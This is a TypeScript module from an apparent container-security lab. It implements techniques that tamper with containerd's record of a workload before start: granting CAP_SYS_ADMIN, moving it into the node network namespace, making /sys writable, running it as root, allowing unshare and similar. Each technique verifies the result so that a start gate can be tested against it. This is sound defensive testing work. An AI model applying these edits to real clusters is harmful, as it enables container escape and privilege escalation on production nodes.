/**
 * Attacks (T1611 Escape to Host, T1562.001 Impair Defenses: Disable or
 * Modify Tools, T1610 Deploy Container): root on the node, who holds
 * containerd's socket, rewrites what a protected workload container runs
 * as and with in containerd's record of it, between CreateContainer and
 * StartContainer (Containers.Update). Its command, mounts, layers and
 * config stay what was signed and requested, so every check of those
 * passes, and neither the pod spec nor the admission webhook ever saw the
 * change:
 *
 * - `containerd-record-capabilities` adds `CAP_SYS_ADMIN` to the process's
 *   bounding, effective and permitted sets: the container's own process can
 *   then mount, unshare and remount its way around the read-only root.
 *   The effect is the bit in the `CapEff` of the container's first process.
 * - `containerd-record-namespace` points the record's network namespace at
 *   the node's (`/proc/1/ns/net`): the container's process sees and binds
 *   the node's interfaces. The effect is that process's network namespace
 *   being the node's, by inode.
 * - `containerd-record-writable-sysfs` takes `ro` off the record's `/sys`
 *   mount: the container's root may then write the node kernel's sysfs
 *   (`/sys/kernel/uevent_helper` names a program the kernel runs on the
 *   node). The effect is `/sys` mounted read-write in the container's
 *   mountinfo; nothing is written there.
 *
 * - `containerd-record-user` makes the record's user root (uid 0, gid 0,
 *   group 0) for a container whose signed image config names an
 *   unprivileged user: the container's process runs as root, with the
 *   capabilities CRI gives root. The effect is the real uid in the `Uid`
 *   line of the container's first process.
 * - `containerd-record-groups` adds group 0 (root) to the record's
 *   supplementary groups and leaves the user as it is: the unprivileged
 *   process may then read and write whatever is group root's, on its
 *   volumes too. The effect is 0 in the `Groups` line of that process.
 *
 * - `containerd-record-sysctls` adds `net.ipv4.conf.all.route_localnet=1`
 *   to the record's sysctls. runc writes it in the pod's network namespace,
 *   which the sandbox and every container of the pod share: packets from
 *   the pod's network to 127.0.0.0/8 are then routed to the pod's loopback,
 *   so a service the workload binds to localhost only (an admin or debug
 *   port) can be reached from outside the pod (the effect of
 *   CVE-2020-8558). CRI gives a workload container no sysctls at all (a
 *   pod's sysctls are its sandbox's, from the pod spec, which admission
 *   checks). The effect is the sysctl's value read in that namespace.
 *
 * - `containerd-record-rlimits` raises `RLIMIT_CORE` to 8 PiB: a crash
 *   of the protected process then dumps its whole memory (its keys and
 *   tokens) to a core file. containerd's CRI gives a container no rlimits.
 *   The effect is the `Max core file size` line of `/proc/<pid>/limits`.
 *
 * - `containerd-record-seccomp` adds a rule allowing `unshare` to the
 *   record's seccomp profile of a container that asked CRI for
 *   RuntimeDefault (or a Localhost profile that denies it), and leaves the profile's default action ("deny") as it
 *   was. containerd's default profile gives `unshare` only to a container
 *   with CAP_SYS_ADMIN; with the rule, the container's processes make user
 *   namespaces, the way into most kernel privilege escalations
 *   (CVE-2022-0185, CVE-2023-32233). The effect is `unshare -U` succeeding
 *   in the container, run by the harness (and listed as its command).
 *
 * Every other effect is read on the node, from /proc of the container's
 * first process or in its namespaces: nothing runs in the container.
 *
 * What must catch them: the start gate, which holds a protected container's
 * process, namespaces and mount options to the request CRI holds and the
 * signed image config (lab/gates/cri-request.ts `processDepartures`,
 * `mountOptionDepartures`, and `userDepartures` with the verified image's
 * /etc/passwd and /etc/group; lab/gates/seccomp-reference.ts for the
 * seccomp profile).
 */
import { LabError } from '../../errors.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import type { HarnessCommand } from '../outcome.ts';
import { harnessExec, type AttackErrorCode } from './common.ts';
import { startWithRecordEdited, type EditableSpec } from './containerd-record-update.ts';
import { parseMountinfo } from '../../node/rootfs.ts';
import { containerInitPid, containerMountinfo, type StartAttempt } from './start.ts';

const SYS_ADMIN = 'CAP_SYS_ADMIN';
/** CAP_SYS_ADMIN's bit in /proc/<pid>/status `CapEff` (linux/capability.h). */
const SYS_ADMIN_BIT = 21n;
const NODE_NETWORK = '/proc/1/ns/net';
/** A sysctl CRI never gives a workload container, and what the attacker sets it to. */
const ROUTE_LOCALNET = 'net.ipv4.conf.all.route_localnet';

/** The container's first process as the node sees it; no process means the attack could not be carried out. */
async function firstProcess(node: LabNodeHandle, start: Extract<StartAttempt, { started: true }>, what: string): Promise<number> {
  const id = start.pod.containers[0]!.id;
  const { pid, state } = await containerInitPid(node, id);
  if (!pid) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `the container ${id.slice(0, 12)} started with ${what} but is ${state}, so its process cannot be read`);
  return pid;
}

/** Reads a file on the node; a failed read is an error of the attack, never an outcome. */
async function readOnNode(node: LabNodeHandle, argv: string[]): Promise<string> {
  const r = await node.exec.run(argv);
  if (r.exitCode !== 0) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${argv.join(' ')} on the node failed: ${r.stderr.toString().trim()}`);
  return r.stdout.toString();
}

export const containerdRecordCapabilities: Technique = {
  name: 'containerd-record-capabilities',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const capabilities = (spec.process ??= {}).capabilities ?? {};
      const before = capabilities.bounding ?? [];
      for (const set of ['bounding', 'effective', 'permitted'] as const) capabilities[set] = [...(capabilities[set] ?? []).filter((c) => c !== SYS_ADMIN), SYS_ADMIN];
      spec.process.capabilities = capabilities;
      return { boundingBefore: before, added: SYS_ADMIN };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after ${SYS_ADMIN} was added to containerd's record of it: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const pid = await firstProcess(node, start, SYS_ADMIN);
    const status = await readOnNode(node, ['cat', `/proc/${pid}/status`]);
    const capEff = /^CapEff:\s*([0-9a-f]+)$/m.exec(status)?.[1];
    if (!capEff) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `/proc/${pid}/status on the node has no CapEff line`);
    evidence.firstProcess = { pid, capEff };
    if ((BigInt(`0x${capEff}`) >> SYS_ADMIN_BIT) & 1n) {
      return { effect: true, reason: `${name} started, and its first process (pid ${pid} on the node) runs with ${SYS_ADMIN} (CapEff ${capEff}), which its pod spec never asked for`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with ${SYS_ADMIN} in its record, but its first process's CapEff ${capEff} lacks it: the edit did not reach runc`);
  },
};

export const containerdRecordNamespace: Technique = {
  name: 'containerd-record-namespace',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const namespaces = (spec.linux ??= {}).namespaces ?? [];
      const network = namespaces.find((n) => n.type === 'network');
      const before = network?.path;
      if (network) network.path = NODE_NETWORK;
      else namespaces.push({ type: 'network', path: NODE_NETWORK });
      spec.linux.namespaces = namespaces;
      return { networkBefore: before ?? null, networkAfter: NODE_NETWORK };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after its network namespace in containerd's record was made the node's: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const pid = await firstProcess(node, start, "the node's network namespace");
    const [inContainer, onNode] = (await readOnNode(node, ['readlink', `/proc/${pid}/ns/net`, NODE_NETWORK])).trim().split('\n');
    evidence.networkNamespaces = { container: inContainer, node: onNode, pid };
    if (inContainer && inContainer === onNode) {
      return { effect: true, reason: `${name} started, and its first process (pid ${pid} on the node) is in the node's network namespace (${onNode}), which its pod spec never asked for`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with the node's network namespace in its record, but its first process is in ${inContainer}, not the node's ${onNode}: the edit did not reach runc`);
  },
};

export const containerdRecordWritableSysfs: Technique = {
  name: 'containerd-record-writable-sysfs',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const sys = (spec.mounts ?? []).find((m) => m.destination === '/sys');
      if (!sys) throw new LabError<AttackErrorCode>('ATTACK_FAILED', "containerd's record has no /sys mount to make writable");
      const before = sys.options ?? [];
      sys.options = [...before.filter((o) => o !== 'ro'), 'rw'];
      return { sysOptionsBefore: before, sysOptionsAfter: sys.options };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after ro was taken off /sys in containerd's record of it: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    await firstProcess(node, start, 'a writable /sys');
    const sys = parseMountinfo(await containerMountinfo(node, start.pod.containers[0]!.id)).filter((m) => m.mountPoint === '/sys').at(-1);
    if (!sys) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started, but its mountinfo has no /sys`);
    evidence.sysMount = { fstype: sys.fstype, options: sys.mountOptions };
    if (sys.mountOptions.includes('rw')) {
      return { effect: true, reason: `${name} started, and its /sys is mounted read-write (${sys.mountOptions.join(',')}), which its pod spec never asked for`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with a writable /sys in its record, but its /sys is mounted ${sys.mountOptions.join(',')}: the edit did not reach runc`);
  },
};

export const containerdRecordUser: Technique = {
  name: 'containerd-record-user',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const process = (spec.process ??= {});
      const before = process.user ?? {};
      if (!before.uid) {
        throw new LabError<AttackErrorCode>('ATTACK_FAILED', `containerd's record already runs ${workload.metadata.name} as root (user ${JSON.stringify(before)}): the workload must run as another user for this attack to mean anything`);
      }
      process.user = { uid: 0, gid: 0, additionalGids: [0] };
      return { userBefore: before, userAfter: process.user };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after its user in containerd's record was made root: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const pid = await firstProcess(node, start, 'user root');
    const status = await readOnNode(node, ['cat', `/proc/${pid}/status`]);
    const uids = /^Uid:\s*(.*)$/m.exec(status)?.[1]?.trim().split(/\s+/);
    if (!uids) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `/proc/${pid}/status on the node has no Uid line`);
    evidence.firstProcess = { pid, uid: uids.join(' ') };
    if (uids[0] === '0') {
      return { effect: true, reason: `${name} started, and its first process (pid ${pid} on the node) runs as root (Uid ${uids.join(' ')}), where its signed image config names the user "agent"`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with user root in its record, but its first process runs as uid ${uids[0]}: the edit did not reach runc`);
  },
};

export const containerdRecordGroups: Technique = {
  name: 'containerd-record-groups',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const user = (spec.process ??= {}).user ?? {};
      if (!user.uid || user.gid === 0 || user.additionalGids?.includes(0)) {
        throw new LabError<AttackErrorCode>('ATTACK_FAILED', `containerd's record runs ${workload.metadata.name} as ${JSON.stringify(user)}: the workload must run as a user outside group root for this attack to mean anything`);
      }
      const before = user.additionalGids ?? [];
      user.additionalGids = [...before, 0];
      spec.process.user = user;
      return { additionalGidsBefore: before, additionalGidsAfter: user.additionalGids };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after group root was added to its supplementary groups in containerd's record: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const pid = await firstProcess(node, start, 'group root added');
    const status = await readOnNode(node, ['cat', `/proc/${pid}/status`]);
    const groups = /^Groups:(.*)$/m.exec(status)?.[1]?.trim().split(/\s+/).filter(Boolean);
    const uid = /^Uid:\s*(\d+)/m.exec(status)?.[1];
    if (!groups || uid === undefined) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `/proc/${pid}/status on the node has no Groups or Uid line`);
    evidence.firstProcess = { pid, uid, groups };
    if (groups.includes('0') && uid !== '0') {
      return { effect: true, reason: `${name} started, and its first process (pid ${pid} on the node, uid ${uid}) holds group root among its groups (${groups.join(' ')}), which neither its pod spec nor its image gives it`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with group root added in its record, but its first process (uid ${uid}) has groups ${groups.join(' ') || 'none'}: the edit did not reach runc`);
  },
};

export const containerdRecordSysctls: Technique = {
  name: 'containerd-record-sysctls',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const linux = (spec.linux ??= {});
      const before = linux.sysctl ?? {};
      linux.sysctl = { ...before, [ROUTE_LOCALNET]: '1' };
      return { sysctlBefore: before, sysctlAfter: linux.sysctl };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after ${ROUTE_LOCALNET}=1 was added to containerd's record of it: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const pid = await firstProcess(node, start, `${ROUTE_LOCALNET}=1`);
    // A network sysctl is read in the reader's network namespace: enter the container's.
    const value = (await readOnNode(node, ['nsenter', '-t', String(pid), '-n', 'cat', `/proc/sys/${ROUTE_LOCALNET.replaceAll('.', '/')}`])).trim();
    evidence.podNetwork = { pid, [ROUTE_LOCALNET]: value };
    if (value === '1') {
      return { effect: true, reason: `${name} started, and its pod's network namespace (that of its first process, pid ${pid} on the node) has ${ROUTE_LOCALNET}=1: its localhost-only services are routable from the pod network, which its pod spec never asked for`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with ${ROUTE_LOCALNET}=1 in its record, but its network namespace has ${value || 'nothing'}: the edit did not reach runc`);
  },
};

export const containerdRecordRlimits: Technique = {
  name: 'containerd-record-rlimits',
  async run({ node, workload, pods }) {
    // As good as unlimited (8 PiB), and exact as a JSON number: RLIM_INFINITY (2^64 - 1) is not a safe JavaScript integer.
    const LIMIT = Number.MAX_SAFE_INTEGER;
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const process = (spec.process ??= {});
      const before = process.rlimits ?? [];
      process.rlimits = [...before.filter((r) => r.type !== 'RLIMIT_CORE'), { type: 'RLIMIT_CORE', hard: LIMIT, soft: LIMIT }];
      return { rlimitsBefore: before, rlimitsAfter: process.rlimits };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after RLIMIT_CORE was raised to 8 PiB in containerd's record of it: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    const pid = await firstProcess(node, start, 'RLIMIT_CORE raised');
    const text = await readOnNode(node, ['cat', `/proc/${pid}/limits`]);
    const core = /^Max core file size\s+(\S+)\s+(\S+)/m.exec(text);
    if (!core) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `/proc/${pid}/limits on the node has no "Max core file size" line`);
    evidence.firstProcess = { pid, coreSoft: core[1], coreHard: core[2] };
    if (core[1] === String(LIMIT) || core[1] === 'unlimited') {
      return { effect: true, reason: `${name} started, and its first process (pid ${pid} on the node) may dump a core file of ${core[1]} bytes (hard ${core[2]}): a crash writes its whole memory out, which its pod spec never asked for`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with RLIMIT_CORE ${LIMIT} in its record, but its first process's core limit is ${core[1]}: the edit did not reach runc`);
  },
};

/** The syscall a RuntimeDefault profile gives only to a container with CAP_SYS_ADMIN, and how the effect is shown. */
export const UNSHARE = 'unshare';
export const UNSHARE_USER_NAMESPACE = ['/bin/busybox', 'unshare', '-U', 'true'];

/** Makes a user namespace in the container, run by the harness (and listed as its command, so no alert about it earns a verdict). */
export async function tryUserNamespace(node: LabNodeHandle, containerId: string, harnessCommands: HarnessCommand[]): Promise<{ argv: string[]; exitCode: number; stderr: string }> {
  const r = await harnessExec(node, containerId, 'make a user namespace in the container', UNSHARE_USER_NAMESPACE, harnessCommands);
  return { argv: UNSHARE_USER_NAMESPACE, exitCode: r.exitCode, stderr: r.stderr.toString().trim() };
}

export const containerdRecordSeccomp: Technique = {
  name: 'containerd-record-seccomp',
  async run({ node, workload, pods }) {
    const { start, evidence } = await startWithRecordEdited({ node, workload, pods }, (spec: EditableSpec) => {
      const seccomp = (spec.linux ??= {}).seccomp;
      if (!seccomp || !seccomp.defaultAction || seccomp.defaultAction === 'SCMP_ACT_ALLOW') {
        throw new LabError<AttackErrorCode>('ATTACK_FAILED', `containerd's record of ${workload.metadata.name} has no denying seccomp profile (${JSON.stringify(seccomp ?? null).slice(0, 80)}): the workload must ask for a denying profile (RuntimeDefault, or a Localhost one) for this attack to mean anything`);
      }
      const rulesBefore = (seccomp.syscalls ?? []).length;
      seccomp.syscalls = [...(seccomp.syscalls ?? []), { names: [UNSHARE], action: 'SCMP_ACT_ALLOW' }];
      return { seccompDefaultAction: seccomp.defaultAction, rulesBefore, ruleAdded: { names: [UNSHARE], action: 'SCMP_ACT_ALLOW' } };
    });
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    if (!start.started) {
      return { effect: false, reason: `the container did not start (${start.stage}) after a rule allowing ${UNSHARE} was added to the seccomp profile in containerd's record of it: ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    }
    await firstProcess(node, start, `${UNSHARE} allowed`);
    const harnessCommands: HarnessCommand[] = [];
    const r = await tryUserNamespace(node, start.pod.containers[0]!.id, harnessCommands);
    evidence.inContainer = r;
    if (r.exitCode === 0) {
      return { harnessCommands, effect: true, reason: `${name} started, and a process in it made a user namespace (${UNSHARE_USER_NAMESPACE.join(' ')} exited 0), which the seccomp profile its pod spec asks for denies it`, evidence };
    }
    throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with ${UNSHARE} allowed in its record's seccomp profile, but ${UNSHARE_USER_NAMESPACE.join(' ')} in it exited ${r.exitCode} (${r.stderr}): the edit did not reach runc, or this kernel refuses user namespaces`);
  },
};
